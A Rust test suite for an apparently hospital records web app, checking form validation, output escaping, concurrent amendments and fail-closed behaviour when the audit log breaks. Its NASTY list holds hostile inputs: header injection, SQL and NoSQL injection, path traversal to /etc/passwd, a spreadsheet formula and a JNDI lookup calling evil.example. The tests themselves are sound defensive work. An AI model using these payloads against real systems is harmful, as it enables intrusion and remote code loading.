//! Whatever can be typed, sent or cut off: refused with words, kept in the form, never run, and
//! without effect when the log cannot be written.

use axum::body::Body;
use http::{Request, header};
use wardkeep_domain::account::Role;
use wardkeep_domain::record::RecordForm;
use wardkeep_web::routes::{FORM_BYTES_MAX, Guard, Route};

use crate::samples::{address, form, routes, sample};
use crate::site::{FAR_FAMILY, FAR_MRN, NEAR_FAMILY, NEAR_MRN, Person, Site, patient_form, post, record_form, urlencoded};

fn is_form(route: &Route) -> bool {
    let file = matches!(route.path, "/patients/{patient}/documents" | "/stroke/import" | "/csp-report");
    route.method == "POST" && !file && !route.path.starts_with("/api/")
}

/// Somebody whom policy lets through, as far as one role goes.
fn entitled<'a>(site: &'a Site, path: &str) -> &'a Person {
    site.person(match path {
        path if ["/accounts", "/requests", "/services", "/units"].iter().any(|area| path.starts_with(area)) => Role::Administrator,
        path if ["/log", "/policy", "/reviews"].iter().any(|area| path.starts_with(area)) => Role::PrivacyOfficer,
        path if path.ends_with("/account") || path.ends_with("/activation") => Role::Registrar,
        path if path.starts_with("/my/") || path == "/activate" => Role::Patient,
        "/health" => Role::Administrator,
        _ => Role::Doctor,
    })
}

fn raw_form(token: &str, path: &str, body: Vec<u8>) -> Request<Body> {
    let mut request = post(Some(token), path, &[]);
    *request.body_mut() = Body::from(body);
    request
}

#[tokio::test]
async fn asvs_1_5_2_unknown_and_repeated_fields_and_bad_utf_8_are_refused_by_every_form() {
    let site = Site::open().await;
    site.app.set_pace(crate::pace::HURRY);
    for route in routes().iter().filter(|route| is_form(route)) {
        let who = entitled(&site, route.path);
        let path = address(&site, route.path, site.near, 1).await;
        let signed = matches!(route.guard, Guard::Signed(_));
        let csrf = if signed { urlencoded(&[("csrf", &who.csrf)]) } else { String::new() };
        let good = urlencoded(&form(route.path));
        // Takes the fields of every form, which is asked for them when the draft goes on.
        let any = route.path == "/drafts";
        for bad in ["surprise=1", "__proto__=1", "csrf2=x", "a=1&a=1", "x%FF=1", "%24where=1", "role=administrator&role=administrator"] {
            if any && !bad.contains('&') {
                continue;
            }
            let body = [csrf.as_str(), good.as_str(), bad].iter().filter(|part| !part.is_empty()).copied().collect::<Vec<_>>().join("&");
            let answer = site.raw(raw_form(&who.token, &path, body.into_bytes())).await;
            assert_eq!(answer.status, 400, "{} with {bad}", route.path);
        }
        let huge = [csrf.as_bytes(), b"&x=", &vec![b'a'; FORM_BYTES_MAX]].concat();
        assert_eq!(site.raw(raw_form(&who.token, &path, huge)).await.status, 413, "{}", route.path);
    }
}

const NASTY: [&str; 10] = [
    "\u{0}",
    "a\r\nset-cookie: planted=1\r\n\r\n<html>",
    "\u{202e}\u{200b}\u{feff}",
    "' OR 1=1 --",
    "{\"$ne\":null}",
    "%2527%00..%2f",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\")",
    "${jndi:ldap://evil.example}",
    "\u{1F9D1}\u{200D}\u{2695}\u{FE0F}\u{0301}\u{0301}\u{0301}",
];

#[tokio::test]
async fn asvs_1_2_4_no_field_of_any_form_breaks_an_answer() {
    let site = Site::open().await;
    site.app.set_pace(crate::pace::HURRY);
    let long = "a".repeat(70 * 1024);
    // Passwords and codes have tests of their own; each try would wait for the hash.
    let slow = ["/sign-in", "/register", "/security/password", "/sign-out"];
    for route in routes().iter().filter(|route| is_form(route) && !slow.contains(&route.path)) {
        for (field, _) in form(route.path) {
            for nasty in NASTY.into_iter().chain([long.as_str()]) {
                let who = entitled(&site, route.path);
                let path = address(&site, route.path, site.near, 1).await;
                let fields: Vec<(&str, &str)> =
                    form(route.path).into_iter().map(|(name, value)| (name, if name == field { nasty } else { value })).collect();
                let answer = match route.guard {
                    Guard::Signed(_) => site.post(who, &path, &fields).await,
                    Guard::Public | Guard::Pending => site.knock(&path, &fields).await,
                };
                let what = format!("{} {field} {:?}: {}", route.path, nasty.chars().take(30).collect::<String>(), answer.status);
                assert!(answer.status.as_u16() < 500, "{what}");
                assert_ne!(answer.cookie("planted"), Some("1".to_owned()), "{what}");
                let to = answer.header("location");
                assert!(to.is_empty() || to.starts_with('/') && !to.starts_with("//") && !to.contains("evil"), "{what} {to}");
                crate::crawl::carries_its_headers(&answer, &what);
            }
        }
    }
}

#[tokio::test]
async fn asvs_1_3_3_what_is_too_long_or_cannot_be_printed_comes_back_with_words() {
    let site = Site::open().await;
    let doctor = site.person(Role::Doctor);
    let new = format!("/patients/{}/records/new", site.near);
    let long_title = "t".repeat(201);
    let long_body = "b".repeat(64 * 1024 + 1);
    for (field, value) in [("title", long_title.as_str()), ("title", "a\u{0}b"), ("title", ""), ("body", &long_body), ("body", "a\u{7}b")] {
        let mut fields = form("/patients/{patient}/records/new");
        fields.iter_mut().filter(|(name, _)| *name == field).for_each(|(_, text)| *text = "");
        let fields: Vec<(&str, &str)> = fields.into_iter().map(|(name, text)| (name, if name == field { value } else { text })).collect();
        let answer = site.post(doctor, &new, &fields).await;
        let page = answer.text();
        assert_eq!(answer.status, 422, "{field}");
        assert!(page.contains("<title>Error: "), "{field}");
        assert!(page.contains(&format!("href=\"#{field}\"")) && page.contains(&format!("id=\"{field}-e\"")), "{field} is linked");
        let kept = if field == "title" { "Comfortable." } else { "Ward round" };
        assert!(page.contains(kept), "{field}: what was right is kept");
    }
    let registration = [("mrn", "ab"), ("family_name", "Keptname"), ("birth_day", "31"), ("birth_month", "2"), ("birth_year", "1960")];
    let answer = site.post(doctor, "/patients/new", &registration).await;
    let page = answer.text();
    assert_eq!(answer.status, 422);
    for part in ["value=\"Keptname\"", "value=\"31\"", "href=\"#mrn\"", "href=\"#birth_date\"", "href=\"#given_name\""] {
        assert!(page.contains(part), "{part}");
    }
}

#[tokio::test]
async fn asvs_1_2_1_what_anybody_wrote_is_shown_as_text_on_every_page() {
    let mut site = Site::open().await;
    site.app.set_pace(crate::pace::HURRY);
    let canary = "\"'><i id=x>";
    let doctor = site.person(Role::Doctor).clone();
    let ctx = site.ctx(&doctor).await;
    let mut form = patient_form("CANARY-5", &format!("Fam{canary}"));
    for field in [&mut form.given_name, &mut form.title, &mut form.address, &mut form.next_of_kin, &mut form.allergy_text] {
        *field = canary.to_owned();
    }
    let patient = site.patient(&ctx, &form).await;
    site.app.assign_care(&ctx, patient, &site.person(Role::Nurse).email).await.unwrap();
    let record = site.app.write_record(&ctx, patient, &record_form(canary, &format!("Body {canary}"))).await.unwrap();
    let amended = RecordForm { reason: format!("Reason {canary}"), version: "1".to_owned(), ..record_form(canary, canary) };
    site.app.amend_record(&ctx, patient, record, &amended).await.unwrap();
    site.app.invite(&site.operator(), "shown@site.example", &format!("Name {canary}"), "doctor").await.unwrap();
    site.near = patient;
    let at = format!("/patients/{patient}/records/{record}");
    let mut pages: Vec<String> = vec![at.clone(), format!("{at}/amend"), format!("{at}/void"), "/accounts?state=invited".to_owned()];
    for route in routes().iter().filter(|route| route.method == "GET" && !route.path.contains("stroke")) {
        pages.push(address(&site, route.path, patient, 1).await);
    }
    let mut shown = 0;
    for person in site.people.clone() {
        for path in &pages {
            let page = site.get(Some(&person), path).await.text();
            assert!(!page.contains("<i id=x"), "{path} as {:?}", person.role);
            assert!(!page.contains("\"'>"), "{path} as {:?}", person.role);
            shown += usize::from(page.contains("id=x"));
        }
    }
    assert!(shown >= 8, "the canary is on the pages at all: {shown}");
    let search = site.post(&doctor, "/patients", &[("mrn", "CANARY-5"), ("name", canary)]).await.text();
    assert!(search.contains("id=x") && !search.contains("<i id=x"), "typed into a form");
}

#[tokio::test]
async fn words_and_attributes_around_conditions_keep_their_spaces() {
    let site = Site::open().await;
    let patient = site.get(Some(site.person(Role::Patient)), "/security").await.text();
    assert!(patient.contains("<body class=\"has-nav role-patient\">"));
    let mut themed = crate::site::get(Some(&site.person(Role::Doctor).token), "/security");
    themed.headers_mut().append(header::COOKIE, "wardkeep-theme=dark".parse().unwrap());
    assert!(site.raw(themed).await.text().contains("<html lang=\"en\" data-theme=\"dark\">"));
}

#[tokio::test]
async fn two_people_amend_at_once_and_the_second_sees_both_texts_and_loses_nothing() {
    let site = Site::open().await;
    let doctor = site.person(Role::Doctor);
    let record = site.record(site.near).await;
    let path = format!("/patients/{}/records/{record}/amend", site.near);
    let amend = |body: &'static str, version: &'static str| {
        let site = &site;
        let path = &path;
        async move {
            let fields =
                [("record_type", "note"), ("title", "Ward round"), ("body", body), ("reason", "A slip of the pen"), ("version", version)];
            let dates = [("event_day", ""), ("event_month", ""), ("event_year", ""), ("event_time", "")];
            site.post(doctor, path, &[&fields[..], &dates[..]].concat()).await
        }
    };
    assert_eq!(amend("The first text.", "1").await.status, 303);
    let second = amend("The second text.", "1").await;
    let page = second.text();
    assert_eq!(second.status, 409);
    for part in ["The first text.", "The second text.", "A slip of the pen", "name=\"version\" value=\"2\""] {
        assert!(page.contains(part), "{part}");
    }
    assert_eq!(amend("The second text.", "2").await.status, 303);
    let versions = site.get(Some(doctor), path.trim_end_matches("/amend")).await.text();
    for text in ["Comfortable overnight.", "The first text.", "The second text."] {
        assert!(versions.contains(text), "{text} stays readable");
    }
}

/// Neither shows anything of anybody nor changes anything, so it needs no line in the log.
const UNLOGGED: &[&str] = &[
    "GET /activate",
    "GET /healthz",
    "GET /my/documents",
    "GET /my/record",
    "GET /patients",
    "GET /patients/new",
    "GET /policy",
    "GET /policy/explain",
    "GET /readyz",
    "GET /register",
    "GET /security",
    "GET /security/confirm",
    "GET /sign-in",
    "GET /sign-in/code",
    "GET /sign-in/enrol",
    "GET /sign-in/recovery",
    "GET /static/{*path}",
    "GET /stroke/export",
    "GET /stroke/import",
    "POST /csp-report",
    "POST /theme",
    // The link is none, the sign-in is none, the session is nobody's: nothing to log.
    "GET /invitation/{token}",
    "GET /setup/{token}",
    "POST /invitation/{token}",
    "POST /setup/{token}",
    "POST /security/sessions/{session}/end",
    "POST /emergency/{emergency}/end",
    // Nobody is named: no proxy, no unit of this hospital.
    "GET /my/others",
    "POST /units/leave",
    "POST /units/join",
    "GET /reviews/emergency/{emergency}",
    "POST /reviews/emergency/{emergency}",
    "POST /reviews/questions/{question}",
    "POST /reviews/clearances/end",
    "POST /reviews/holds/lift",
    "POST /stroke/import/confirm",
    "POST /sign-in/code",
    "POST /sign-in/enrol",
    "POST /sign-in/recovery",
    // A question to a passkey writes nothing, and these answer none; there is an app and no passkey.
    "GET /sign-in/passkey",
    "POST /sign-in/passkey",
    "GET /sign-in/enrol/passkey",
    "POST /sign-in/enrol/passkey",
    "GET /security/confirm/passkey",
    "POST /security/confirm/passkey",
    "GET /security/passkeys/new",
    "POST /security/passkeys/new",
    "POST /security/passkeys/{passkey}/remove",
    "GET /security/authenticator",
    "POST /security/authenticator",
    "POST /security/authenticator/remove",
    // How long a session lives is no patient's; the sample leaves no draft (it has no form token) and
    // there is none to open: `drafts.rs` tries both without a log.
    "GET /session/left",
    "POST /drafts",
    "GET /drafts",
    "GET /drafts/{draft}",
    "POST /drafts/{draft}/discard",
    // The published log is not switched on.
    "GET /ledger/log.vkey",
    "GET /ledger/{stream}/{*path}",
    // So with a question to the provider; nothing is linked yet, and nothing here answers one.
    "POST /sign-in/provider",
    "GET /sign-in/provider/back",
    "POST /security/provider/ask",
    "GET /security/provider",
    "POST /security/provider/link",
    "POST /security/provider/unlink",
    // About accounts and the machine, and no patient's record.
    "GET /accounts/invite",
    "GET /health",
    "GET /requests",
    "GET /services",
    "GET /services/new",
    "GET /requests/{request}",
    // The sample never signed in: its state refuses, and nothing is done.
    "POST /accounts/{account}/reinstate",
    "POST /accounts/{account}/reset-factor",
    // The sample is somebody else's.
    "POST /requests/{request}/use",
];

#[tokio::test]
async fn when_the_log_cannot_be_written_nothing_is_shown_and_nothing_happens() {
    let site = Site::open().await;
    site.app.set_pace(crate::pace::HURRY);
    let mut requests = Vec::new();
    for route in routes().into_iter().filter(|route| !route.path.starts_with("/api/")) {
        let who = entitled(&site, route.path);
        let request = sample(&site, &route, Some(who), Some(&who.token), site.near, 1).await;
        requests.push((route, request));
    }
    site.control.break_writes();
    site.records.break_writes();
    let mut open = Vec::new();
    for (route, request) in requests {
        let answer = site.raw(request).await;
        let what = format!("{} {}", route.method, route.path);
        let text = answer.text();
        for canary in [NEAR_FAMILY, FAR_FAMILY, NEAR_MRN, FAR_MRN, "Canary", "Comfortable"] {
            // What somebody has just sent comes back to them, see `draft.rs`.
            let sent = route.method == "POST" && text.contains("Send again");
            assert!(sent || !text.contains(canary), "{canary} in {what}");
        }
        match answer.status.as_u16() {
            503 => assert_eq!(answer.header("retry-after"), "5", "{what}"),
            _ => open.push(what),
        }
    }
    let surprising: Vec<&String> = open.iter().filter(|what| !UNLOGGED.contains(&what.as_str())).collect();
    assert!(surprising.is_empty(), "answered without a log: {surprising:?}");
}

#[tokio::test]
async fn a_form_that_could_not_be_saved_comes_back_whole_and_is_sent_again() {
    let site = Site::open().await;
    let doctor = site.person(Role::Doctor);
    let path = format!("/patients/{}/records/new", site.near);
    let fields = [
        ("record_type", "note"),
        ("title", "Ward round \"three\""),
        ("body", "Speech <better>,\nwalks & \u{e9}ats."),
        ("event_day", ""),
        ("event_month", ""),
        ("event_year", ""),
        ("event_time", ""),
        ("reason", ""),
        ("version", ""),
    ];
    site.records.break_writes();
    let refused = site.post(doctor, &path, &fields).await;
    assert_eq!((refused.status.as_u16(), refused.header("retry-after")), (503, "5"));
    let text = refused.text();
    assert!(text.contains(&format!("action=\"{path}\"")) && text.contains("Send again"));
    // Read as a browser would: what is in the hidden fields is what it sends.
    let unescaped = |value: &str| {
        let named = [
            ("&quot;", "\""),
            ("&#34;", "\""),
            ("&lt;", "<"),
            ("&#60;", "<"),
            ("&gt;", ">"),
            ("&#62;", ">"),
            ("&amp;", "&"),
            ("&#38;", "&"),
        ];
        named.iter().fold(value.to_owned(), |text, (escaped, plain)| text.replace(escaped, plain))
    };
    let kept: Vec<(String, String)> = text
        .split("<input type=\"hidden\" name=\"")
        .skip(1)
        .filter_map(|field| field.split_once("\" value=\""))
        .filter_map(|(name, rest)| Some((name.to_owned(), unescaped(rest.split_once('"')?.0))))
        .filter(|(name, _)| name != "csrf")
        .collect();
    assert_eq!(kept, fields.map(|(name, value)| (name.to_owned(), value.to_owned())));
    site.records.mend();
    let again: Vec<(&str, &str)> = kept.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    let saved = site.post(doctor, &path, &again).await;
    assert_eq!(saved.status, 303);
    let page = site.get(Some(doctor), saved.header("location")).await.text();
    assert!(page.contains("walks &#38; \u{e9}ats.") || page.contains("walks &amp; \u{e9}ats."), "{page}");
}

#[tokio::test]
async fn asvs_1_1_1_ids_are_decoded_once_and_files_may_be_named_anything() {
    let site = Site::open().await;
    let doctor = site.person(Role::Doctor);
    let near = site.near.to_string();
    let once = format!("/patients/%{:02x}{}", near.as_bytes()[0], &near[1..]);
    assert_eq!(site.get(Some(doctor), &once).await.status, 200, "an encoded letter is that letter");
    let twice = format!("/patients/%25{:02x}{}", near.as_bytes()[0], &near[1..]);
    assert_eq!(site.get(Some(doctor), &twice).await.status, 404, "and is not decoded again");
    for query in ["?after=-1", "?after=1e9", "?after=99999999999999999999", "?after=1&after=2", "?_sort=name", "?after=%00"] {
        let answer = site.get(Some(doctor), &format!("/patients/{near}/records{query}")).await;
        assert_eq!(answer.status, 400, "{query}");
        assert_eq!(answer.header(header::CONTENT_TYPE.as_str()), "text/html; charset=utf-8", "{query}");
    }
}
